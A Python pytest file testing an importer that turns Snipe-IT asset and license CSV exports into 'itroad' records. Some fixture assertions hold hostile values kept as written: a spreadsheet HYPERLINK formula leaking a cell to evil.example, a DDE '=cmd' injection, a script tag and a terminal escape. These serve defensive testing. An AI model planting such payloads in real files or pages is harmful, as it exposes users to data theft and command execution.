"""Snipe-IT's asset and license exports read as itroad records: the columns by
Snipe-IT's names and aliases, its dates and amounts, people, statuses, clients by
Company, and problems that name the file, record, line, column and value."""

from __future__ import annotations

from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

from itroad.domain.enums import AssetStatus, RenewalKind
from itroad.domain.incoming import ClientKey, Incoming, RowProblem
from itroad.domain.models import Asset, Person, Renewal
from itroad.interchange.csv_fields import ReadOptions
from itroad.interchange.csv_file import header_key
from itroad.interchange.snipeit import SnipeitSource

FIXTURES = Path(__file__).parent / "fixtures" / "snipeit"
AS_OF = date(2025, 6, 1)


def read(name: str | Path, **options: object) -> tuple[SnipeitSource, list[Incoming], list[RowProblem]]:
    path = name if isinstance(name, Path) else FIXTURES / name
    source = SnipeitSource(path, as_of=AS_OF, **options)  # type: ignore[arg-type]
    items = list(source)
    incoming = [i for i in items if isinstance(i, Incoming)]
    problems = [i for i in items if isinstance(i, RowProblem)]
    return source, incoming, problems


def by_key(items: list[Incoming]) -> dict[str, Incoming]:
    return {i.record.tag if isinstance(i.record, Asset) else i.record.name: i  # type: ignore[union-attr]
            for i in items}


def asset(item: Incoming) -> Asset:
    assert isinstance(item.record, Asset)
    return item.record


def renewal(item: Incoming) -> Renewal:
    assert isinstance(item.record, Renewal)
    return item.record


def write(tmp_path: Path, text: str, name: str = "export.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


# -- the custom asset report: ISO dates, UTF-8 with a BOM, CRLF ----------------------

def test_custom_report_assets() -> None:
    source, items, problems = read("assets-iso.csv")
    assert problems == []
    assert (source.kind, source.label) == ("assets", "Snipe-IT assets")
    assert source.unused == ["Warranty Expires", "Order Number", "Supplier"]
    assert len(items) == 10
    first = by_key(items)["ACME-0001"]
    a = asset(first)
    assert (a.name, a.category, a.manufacturer, a.model, a.serial, a.site) == (
        "FD-LT-01", "laptops", "Dell", "Latitude 5440", "7Z4QK93", "Front Desk")
    assert a.purchase_date == date(2023, 1, 23)  # "2023-01-23 00:00:00"
    assert a.purchase_cost == Decimal("1249.50")
    assert a.warranty_end == date(2026, 1, 23)
    assert (a.replace_on, a.replace_reason) == (date(2027, 1, 23), "EOL date from Snipe-IT")
    assert a.status is AssetStatus.IN_USE  # "Ready to Deploy (deployed)", checked out
    assert a.assigned_to == "dana.whitfield@acmedental.example"
    assert first.people == (Person(name="Dana Whitfield", email="dana.whitfield@acmedental.example"),)
    assert a.notes == "Keyboard replaced, under warranty"
    assert first.client == ClientKey(name="Acme Dental")
    assert (first.place.record, first.place.line) == (1, 2)
    assert first.given == frozenset({
        "tag", "name", "model", "category", "manufacturer", "serial", "site", "purchase_date",
        "purchase_cost", "warranty_end", "replace_on", "replace_reason", "notes", "status",
        "assigned_to"})
    assert first.columns["purchase_date"] == "Purchased"
    assert first.columns["purchase_cost"] == "Cost"
    assert first.columns["replace_on"] == "EOL"
    assert first.columns["assigned_to"] == "Email"


def test_custom_report_details() -> None:
    _, items, _ = read("assets-iso.csv")
    assets = by_key(items)
    spare = asset(assets["ACME-0002"])
    assert spare.name == "OptiPlex 7010"  # no asset name: the model's
    assert spare.status is AssetStatus.SPARE
    assert spare.serial == "6.37702E+15"
    assert assets["ACME-0002"].notices == (
        'serial "6.37702E+15" looks like a long number a spreadsheet shortened (the digits after '
        "the 6th are lost): check it in Snipe-IT",)
    printer = asset(assets["ACME-0003"])
    assert printer.purchase_date == date(2024, 2, 29)
    assert printer.warranty_end == date(2026, 2, 28)
    assert printer.status is AssetStatus.IN_REPAIR
    assert printer.notes == 'Toner "smear" on every page; tech said:\r\nreplace fuser'
    assert (assets["ACME-0003"].place.record, assets["ACME-0003"].place.line) == (3, 4)
    switch = assets["ACME-0004"]
    assert (asset(switch).name, asset(switch).model) == ("ACME-0004", None)  # neither: the tag
    assert asset(switch).assigned_to is None and switch.people == ()  # checked out to a location
    assert asset(switch).status is AssetStatus.IN_USE
    assert asset(switch).purchase_cost == Decimal("2310.00")
    assert (switch.place.record, switch.place.line) == (4, 6)
    assert asset(assets["HL-1002"]).status is AssetStatus.RETIRED
    assert asset(assets["HL-1007"]).status is AssetStatus.DISPOSED
    server = asset(assets["NW-0001"])
    assert server.warranty_end == date(2022, 2, 28)  # Jan 31 + 1 month (Snipe-IT wrote 2022-03-03)
    assert server.purchase_cost == Decimal("12480.00")
    ap = assets["NW-0002"]
    assert (asset(ap).assigned_to, ap.people) == ("Priya Raman", (Person(name="Priya Raman"),))
    assert asset(ap).status is AssetStatus.IN_USE  # "Pending", checked out
    assert asset(ap).category == "access points"
    undated = assets["NW-0003"]
    assert asset(undated).warranty_end is None
    assert undated.notices == ("a warranty of 12 months but no purchase date: no warranty end",)


def test_hostile_text_is_kept_as_written() -> None:
    _, items, _ = read("assets-iso.csv")
    assets = by_key(items)
    assert asset(assets["ACME-0004"]).notes == '=HYPERLINK("http://evil.example/?x="&A1;"click")'
    assert asset(assets["HL-1001"]).notes == "[bold]red[/bold] <script>alert(1)</script>"
    assert asset(assets["HL-1002"]).notes == "\x1b[31mdisk wiped\x1b[0m"
    assert assets["HL-1001"].people[0].name == "Tomás Ortega"


# -- the import sample's layout: US dates, LF ----------------------------------------

def test_import_layout_us_dates() -> None:
    source, items, problems = read("assets-us.csv")
    assert problems == []
    assert source.unused == ["Supplier", "Order Number", "Model Notes", "Checked Out To: Location",
                             "Model Notes (column 24)"]
    assert source.notices == ["1 value was under a column without a name, not imported"]
    assets = by_key(items)
    first = assets["ACME-0010"]
    a = asset(first)
    assert (a.purchase_date, a.purchase_cost, a.warranty_end) == (
        date(2023, 1, 23), Decimal("1249.50"), date(2026, 1, 23))
    assert first.people == (Person(name="Jae Kim", email="jae.kim@acmedental.example"),)
    assert a.status is AssetStatus.IN_USE
    assert first.columns["notes"] == "Asset Notes"
    assert first.columns["model"] == "Model"
    assert "replace_on" not in first.given and "warranty_end" in first.given
    old = asset(assets["ACME-0011"])
    assert (old.purchase_date, old.purchase_cost, old.status) == (
        date(2012, 7, 13), Decimal("980.00"), AssetStatus.SPARE)
    assert old.notes == "Spare for the front desk, charger in drawer"
    leap = asset(assets["ACME-0012"])
    assert (leap.purchase_date, leap.warranty_end) == (date(2024, 2, 29), date(2025, 2, 28))
    assert leap.assigned_to is None and assets["ACME-0012"].people == ()
    assert asset(assets["BV-0001"]).status is AssetStatus.RETIRED
    monitor = assets["BV-0002"]
    assert monitor.people == (Person(name="Maria Lopez"),)  # first and last name
    assert asset(monitor).purchase_date == date(2021, 3, 1)
    assert asset(monitor).warranty_end is None and monitor.notices == ()
    assert asset(assets["BV-0003"]).status is AssetStatus.DISPOSED
    assert {i.client.name for i in items} == {"Acme Dental", "Bayview Law"}


def test_day_first_dates_by_option(tmp_path: Path) -> None:
    path = write(tmp_path, "Company,Asset Tag,Category,Purchase Date,Purchase Cost\n"
                           "Acme,A-1,Laptops,23/01/2023,\"1.249,50\"\n")
    _, items, problems = read(path, options=ReadOptions(date_order="dmy", decimal_separator=","))
    assert problems == []
    assert asset(items[0]).purchase_date == date(2023, 1, 23)
    assert asset(items[0]).purchase_cost == Decimal("1249.50")
    _, _, problems = read(path)
    assert [(p.column, p.value) for p in problems] == [("Purchase Date", "23/01/2023"),
                                                       ("Purchase Cost", "1.249,50")]
    assert "--date-order dmy" in problems[0].message


@pytest.mark.parametrize("months", ["36", "36 months", "36 Months", " 36 "])
def test_warranty_months_as_the_custom_report_writes_them(tmp_path: Path, months: str) -> None:
    path = write(tmp_path, "Company,Asset Tag,Category,Purchase Date,Warranty\n"
                           f"Acme,A-1,Laptops,2023-01-31,{months}\n")
    _, items, problems = read(path)
    assert problems == []
    assert asset(items[0]).warranty_end == date(2026, 1, 31)


# -- encodings and line endings ------------------------------------------------------

def test_cp1252_needs_its_encoding() -> None:
    _, items, problems = read("assets-cp1252.csv")
    assert items == []
    [problem] = problems
    offset = (FIXTURES / "assets-cp1252.csv").read_bytes().index(b"\xe9")
    assert f"not utf-8 text at byte {offset}" in problem.message
    assert "--encoding cp1252" in problem.message
    _, items, problems = read("assets-cp1252.csv", encoding="cp1252")
    assert problems == []
    assert [i.client.name for i in items] == ["Café Lumière", "Café Lumière"]
    first = items[0]
    assert first.people == (Person(name="Renée Dubois", email="renee.dubois@cafe.example"),)
    assert asset(first).notes == "Prix 1 049 € TTC"
    assert asset(first).purchase_cost == Decimal("1049.00")


def test_old_mac_line_endings() -> None:
    _, items, problems = read("assets-mac-cr.csv")
    assert problems == []
    first, second = items
    assert asset(first).notes == "Line one\rline two"
    assert (second.place.record, second.place.line) == (2, 4)
    assert asset(second).name == "Mac mini"
    assert "status" not in first.given and "assigned_to" not in first.given


# -- licenses --------------------------------------------------------------------------

def test_licenses() -> None:
    source, items, problems = read("licenses.csv")
    assert problems == []
    assert (source.kind, source.label) == ("renewals", "Snipe-IT licenses")
    assert source.unused == ["Product Key", "Purchase Date", "Category", "Maintained", "Reassignable"]
    licenses = by_key(items)
    m365 = licenses["Microsoft 365 Business Premium"]
    r = renewal(m365)
    assert (r.kind, r.vendor, r.quantity, r.unit_cost, r.period_months, r.next_renewal) == (
        RenewalKind.LICENSE, "Microsoft", 25, Decimal("264.00"), 12, date(2026, 3, 31))
    assert r.owner == "dana.whitfield@acmedental.example"
    assert m365.people == (Person(name="Dana Whitfield", email="dana.whitfield@acmedental.example"),)
    assert m365.notices == ()
    assert m365.given == frozenset({"name", "vendor", "quantity", "unit_cost", "next_renewal",
                                    "end_date", "owner", "notes"})
    assert m365.columns["unit_cost"] == "Purchase Cost"
    assert m365.columns["next_renewal"] == "Expiration Date"
    acrobat = renewal(licenses["Adobe Acrobat Pro"])
    assert (acrobat.next_renewal, acrobat.unit_cost, acrobat.owner) == (
        date(2025, 9, 30), Decimal("239.88"), None)
    dentrix = licenses["Dentrix Enterprise"]
    assert renewal(dentrix).vendor == "Henry Schein"  # no manufacturer: the supplier
    assert renewal(dentrix).unit_cost == Decimal("1200.00")
    assert renewal(dentrix).end_date == date(2028, 6, 30)
    assert renewal(dentrix).notes == 'Renewal quote due "60 days" ahead'
    assert dentrix.people == (Person(name="Office Manager"),)
    winzip = licenses["WinZip Standard"]
    assert (renewal(winzip).quantity, renewal(winzip).unit_cost) == (1, Decimal("35.00"))
    assert winzip.notices == ("no seats: purchase cost 35.00 taken as one seat's (a license "
                              "already in itroad keeps its quantity)", "expired on 2024-01-15")
    assert renewal(winzip).notes == "[bold]legacy[/bold]"
    veeam = licenses["Veeam Backup Essentials"]
    assert renewal(veeam).unit_cost == Decimal("0")
    assert veeam.notices == ("no purchase cost: a new license costs 0 until one is set (one already in "
                             "itroad keeps its cost)",)
    eset = licenses["ESET Endpoint Security"]
    assert renewal(eset).notes == "=cmd|' /C calc'!A0"
    assert eset.people == (Person(name="it@northwind.example", email="it@northwind.example"),)
    assert (eset.place.record, eset.place.line) == (6, 8)


def test_license_cost_spread_rounds_to_the_cent(tmp_path: Path) -> None:
    path = write(tmp_path, "Company,License Name,Seats,Expiration Date,Purchase Cost\n"
                           "Acme,Tool,3,2026-01-31,$100.00\n")
    _, [item], _ = read(path)
    assert renewal(item).unit_cost == Decimal("33.33")
    assert item.notices == ("purchase cost 100.00 for 3 seats: 33.33 a seat",)


def test_license_problems() -> None:
    _, items, problems = read("licenses-bad.csv")
    assert items == []
    assert [str(p) for p in problems] == [
        f'{FIXTURES / "licenses-bad.csv"}: record 1 (line 2), column "Expiration Date", value "": '
        "the license has no expiration date, so its renewal cannot be planned (set one in Snipe-IT)",
        f'{FIXTURES / "licenses-bad.csv"}: record 2 (line 3), column "Seats", value "-2": '
        "expected a number of seats, 0 or more",
        f'{FIXTURES / "licenses-bad.csv"}: record 3 (line 4), column "Seats", value "ten": '
        'expected a whole number, got "ten"',
        f'{FIXTURES / "licenses-bad.csv"}: record 4 (line 5), column "Purchase Cost", '
        'value "nine hundred": amount "nine hundred" is not a number',
    ]


# -- problems of assets -----------------------------------------------------------------

def test_asset_problems() -> None:
    _, items, problems = read("assets-bad.csv")
    assert [asset(i).tag for i in items] == ["ACME-0100", "ACME-0108"]
    assert asset(items[0]).purchase_date == date(2024, 2, 29)
    assert items[1].notices == ('status "Loaner Pool" is not one of Snipe-IT\'s own: read as spare',)
    where = [(p.place.record if p.place else None, p.place.line if p.place else None, p.column, p.value)
             for p in problems]
    assert where == [
        (2, 3, "Purchase Date", "2/30/2023"),
        (3, 4, "Asset Tag", None),
        (4, 5, "Category", None),
        (5, 6, "Company", ""),
        (6, 7, "Purchase Cost", "$8.99.00"),
        (7, 8, "Email", "sam.lee-at-acme"),
        (8, 9, "Warranty Months", "three"),
    ]
    assert problems[0].message == 'no such date "2/30/2023" (read as M/D/YYYY)'
    assert problems[1].message == "tag is required"
    assert problems[3].message == "the record names no company: name the client with --client CODE"
    assert problems[5].message == "expected an email address (name@example.org)"
    assert str(problems[0]).startswith(f"{FIXTURES / 'assets-bad.csv'}: record 2 (line 3)")


# -- clients, kinds and headers ----------------------------------------------------------

def test_client_option(tmp_path: Path) -> None:
    path = write(tmp_path, "Asset Tag,Category\nA-1,Laptops\n")
    _, items, problems = read(path)
    assert items == []
    assert [(p.place, p.message) for p in problems] == [
        (None, "the file has no Company column: name the client with --client CODE")]
    assert problems[0].file == str(path)
    _, [item], problems = read(path, client="acme")
    assert problems == [] and item.client == ClientKey(code="acme")
    _, items, _ = read("assets-us.csv", client="msp")
    assert {i.client for i in items} == {ClientKey(code="msp", name="Acme Dental"),
                                         ClientKey(code="msp", name="Bayview Law")}
    _, items, problems = read("assets-bad.csv", client="acme")
    assert "Company" not in [p.column for p in problems]


def test_kind_detection(tmp_path: Path) -> None:
    unknown = write(tmp_path, "Company,Name,Notes\nAcme,Thing,\n")
    source, items, problems = read(unknown)
    assert items == [] and len(problems) == 1
    assert "pass --kind assets or --kind licenses" in problems[0].message
    licensed = write(tmp_path, "company,item_name,licensed_to_email,expiration_date,cost\n"
                               "Acme,Visio,kim@acme.example,2026-01-01,10\n", "l.csv")
    source, [item], problems = read(licensed)
    assert problems == [] and source.kind == "renewals"
    assert renewal(item).owner == "kim@acme.example"
    source, items, problems = read(unknown, kind="licenses")
    assert (source.kind, source.label, items) == ("renewals", "Snipe-IT licenses", [])
    assert [p.message for p in problems] == [
        'the file has no "Expiration Date" column (a Snipe-IT license export has one)']


@pytest.mark.parametrize(("name", "key"), [
    ("Asset Tag", "assettag"), ("asset_tag", "assettag"), ("ASSET-TAG", "assettag"),
    ("Model No.", "modelno"), ("Checked Out To: Email", "checkedouttoemail"),
])
def test_column_names_match_loosely(name: str, key: str) -> None:
    assert header_key(name) == key


def test_header_problems(tmp_path: Path) -> None:
    repeated = write(tmp_path, "Company,Asset Tag,Category,Asset Tag\nAcme,A-1,Laptops,A-2\n")
    _, items, problems = read(repeated)
    assert items == []
    assert [p.message for p in problems] == [
        'the header names "Asset Tag" 2 times (columns 2 and 4); rename all but one']
    twins = write(tmp_path, "Company,Asset Tag,asset_tag,Category\nAcme,A-1,A-2,Laptops\n", "t.csv")
    _, items, problems = read(twins)
    assert items == [] and [p.column for p in problems] == ["asset_tag"]
    assert problems[0].message == ("the columns 'Asset Tag' and 'asset_tag' are one column of "
                                   "Snipe-IT's; keep one")
    no_category = write(tmp_path, "Company,Asset Tag\nAcme,A-1\n", "c.csv")
    _, _, problems = read(no_category)
    assert [p.message for p in problems] == [
        'the file has no "Category" column (a Snipe-IT asset export has one)']


def test_import_sample_license_layout(tmp_path: Path) -> None:
    """Snipe-IT's license import sample: "Name" is the person a seat is checked out
    to, "Item name" the license."""
    path = write(tmp_path, "Name,Email,Username,Item name,serial number,manufacturer,purchase date,"
                           "purchase cost,purchase_order,order number,Licensed To Name,Licensed to Email,"
                           "expiration date,maintained,reassignable,seats,company,supplier,notes\n"
                           "Helen Anderson,cspencer0@example.org,cspencer0,Argentum,1aa5b0eb,\"Beer, Leannon\","
                           "07/13/2012,$79.66,53008,386436062-5,Cynthia Spencer,cspencer0@example.gov,"
                           "01/27/2016,false,no,80,\"Haag, Schmidt\",Hegmann,\"Sed ante.\n\nAenean.\"\n")
    source, [item], problems = read(path)
    assert problems == [] and source.kind == "renewals"
    r = renewal(item)
    assert (r.name, r.vendor, r.quantity, r.unit_cost, r.next_renewal) == (
        "Argentum", "Beer, Leannon", 80, Decimal("1.00"), date(2016, 1, 27))
    assert item.notices == ("purchase cost 79.66 for 80 seats: 1.00 a seat", "expired on 2016-01-27")
    assert item.people == (Person(name="Cynthia Spencer", email="cspencer0@example.gov"),)
    assert r.notes == "Sed ante.\n\nAenean."
    assert "Name" in source.unused and "serial number" in source.unused


@pytest.mark.parametrize(("label", "checked_out", "status"), [
    ("Ready to Deploy", False, AssetStatus.SPARE),
    ("Ready to Deploy", True, AssetStatus.IN_USE),
    ("Deployable", False, AssetStatus.SPARE),
    ("Pending", False, AssetStatus.SPARE),
    ("Deployed", False, AssetStatus.IN_USE),
    ("Archived", True, AssetStatus.RETIRED),
    ("Broken", False, AssetStatus.IN_REPAIR),
    ("Out for Repair", False, AssetStatus.IN_REPAIR),
    ("Lost", False, AssetStatus.DISPOSED),
    ("Stolen", False, AssetStatus.DISPOSED),
    ("Lost/Stolen", False, AssetStatus.DISPOSED),
    ("Needs Wipe (undeployable)", False, AssetStatus.IN_REPAIR),
    ("Loaner (deployable)", True, AssetStatus.IN_USE),
    ("in_repair", False, AssetStatus.IN_REPAIR),
])
def test_status_labels(tmp_path: Path, label: str, checked_out: bool, status: AssetStatus) -> None:
    who = "kim@acme.example" if checked_out else ""
    path = write(tmp_path, f"Company,Asset Tag,Category,Status,Email\nAcme,A-1,Laptops,{label},{who}\n")
    _, [item], _ = read(path)
    assert asset(item).status is status
    assert item.notices == ()


# -- defaults worked out for a new record: an existing one keeps its own -----------------

def _import_twice(tmp_path: Path, first: str, second: str, **options: object):
    from itroad.store import import_records, load_client, open_database

    db = open_database(tmp_path / "itroad.db")
    try:
        for n, text in enumerate((first, second)):
            path = write(tmp_path, text, f"export-{n}.csv")
            import_records(db, SnipeitSource(path, as_of=AS_OF, client="acme", **options))  # type: ignore[arg-type]
        return load_client(db, "acme")
    finally:
        db.close()


def test_an_empty_seats_or_cost_cell_is_a_default_for_a_new_license_only(tmp_path: Path) -> None:
    path = write(tmp_path, "License Name,Seats,Expiration Date,Purchase Cost\n"
                           "Tool,,2026-01-31,\n")
    _, [item], _ = read(path, client="acme")
    assert (renewal(item).quantity, renewal(item).unit_cost) == (1, Decimal("0"))
    assert item.fills >= {"quantity", "unit_cost"}
    assert not item.given & {"quantity", "unit_cost"}
    client = _import_twice(
        tmp_path,
        "License Name,Seats,Expiration Date,Purchase Cost\nTool,25,2026-01-31,$250.00\n",
        "License Name,Seats,Expiration Date,Purchase Cost\nTool,,2026-01-31,\n")
    [kept] = client.renewals
    assert (kept.quantity, kept.unit_cost) == (25, Decimal("10.00"))


def test_given_seats_and_cost_are_written_over_the_database(tmp_path: Path) -> None:
    client = _import_twice(
        tmp_path,
        "License Name,Seats,Expiration Date,Purchase Cost\nTool,25,2026-01-31,$250.00\n",
        "License Name,Seats,Expiration Date,Purchase Cost\nTool,10,2026-01-31,$200.00\n")
    [updated] = client.renewals
    assert (updated.quantity, updated.unit_cost) == (10, Decimal("20.00"))


def test_an_empty_name_or_status_cell_keeps_an_existing_assets(tmp_path: Path) -> None:
    path = write(tmp_path, "Asset Tag,Asset Name,Model,Category,Status\nLAP-1,,Latitude,Laptops,\n")
    _, [item], _ = read(path, client="acme")
    assert (asset(item).name, asset(item).status) == ("Latitude", AssetStatus.SPARE)
    assert {"name", "status"} <= item.fills and not {"name", "status"} & item.given
    client = _import_twice(
        tmp_path,
        "Asset Tag,Asset Name,Model,Category,Status\nLAP-1,Front desk PC,Latitude,Laptops,Broken\n",
        "Asset Tag,Asset Name,Model,Category,Status\nLAP-1,,Latitude,Laptops,\n")
    [kept] = client.assets
    assert (kept.name, kept.status) == ("Front desk PC", AssetStatus.IN_REPAIR)


# -- what an asset is checked out to --------------------------------------------------------

@pytest.mark.parametrize("to", ["Front Desk", "LAPTOP-A1"])
def test_checked_out_to_without_a_type_or_a_user_is_not_a_person(tmp_path: Path, to: str) -> None:
    path = write(tmp_path, f"Asset Tag,Category,Checked Out To,Email\nLAP-1,Laptops,{to},\n")
    _, [item], problems = read(path, client="acme")
    assert problems == []
    assert asset(item).assigned_to is None and item.people == ()
    assert "assigned_to" not in item.given  # an asset in itroad keeps its person
    assert item.notices == (f'checked out to "{to}", which may be a location or an asset: '
                            "not taken as a person",)


def test_checked_out_to_with_an_email_or_a_username_is_a_person(tmp_path: Path) -> None:
    path = write(tmp_path, "Asset Tag,Category,Checked Out To,Email,Username\n"
                           "LAP-1,Laptops,Dana Whitfield,dana@acme.example,\n"
                           "LAP-2,Laptops,Sam Lee,,slee\n")
    _, [dana, sam], _ = read(path, client="acme")
    assert dana.people == (Person(name="Dana Whitfield", email="dana@acme.example"),)
    assert sam.people == (Person(name="Sam Lee"),)
    assert {"assigned_to"} <= dana.given and dana.notices == () and sam.notices == ()


def test_a_type_column_holding_the_asset_type_does_not_drop_the_person(tmp_path: Path) -> None:
    path = write(tmp_path, "Asset Tag,Category,Type,Checked Out To,Email\n"
                           "LAP-1,Laptops,Laptop,Dana Whitfield,dana@acme.example\n"
                           "LAP-2,Laptops,location,Front Desk,\n")
    _, [laptop, desk], _ = read(path, client="acme")
    assert asset(laptop).assigned_to == "dana@acme.example"
    assert asset(desk).assigned_to is None and desk.people == () and desk.notices == ()
    assert "assigned_to" in desk.given  # the file says: a location, so no one


# -- problems of worked-out fields name their column ---------------------------------------

def test_a_problem_of_a_worked_out_field_names_its_column(tmp_path: Path) -> None:
    long = "N" * 300
    path = write(tmp_path, "Asset Tag,Asset Name,Category\n"
                           f"LAP-1,{long},Laptops\n")
    _, _, [problem] = read(path, client="acme")
    assert (problem.column, problem.value) == ("Asset Name", long)
    path = write(tmp_path, "License Name,Seats,Expiration Date,Purchase Cost\n"
                           "Tool,2000000,2026-01-31,$1.00\n", "licenses.csv")
    _, _, [problem] = read(path, client="acme")
    assert problem.column == "Seats"


def test_a_cost_without_seats_is_one_seats_with_a_notice(tmp_path: Path) -> None:
    path = write(tmp_path, "License Name,Seats,Expiration Date,Purchase Cost\n"
                           "Tool,,2026-01-31,$250.00\n")
    _, [item], _ = read(path, client="acme")
    assert (renewal(item).quantity, renewal(item).unit_cost) == (1, Decimal("250.00"))
    assert item.notices == ("no seats: purchase cost 250.00 taken as one seat's (a license "
                            "already in itroad keeps its quantity)",)
    path = write(tmp_path, "License Name,Expiration Date,Purchase Cost\nTool,2026-01-31,$250.00\n",
                 "no-seats-column.csv")
    _, [item], _ = read(path, client="acme")
    assert item.notices == ("no seats: purchase cost 250.00 taken as one seat's (a license "
                            "already in itroad keeps its quantity)",)
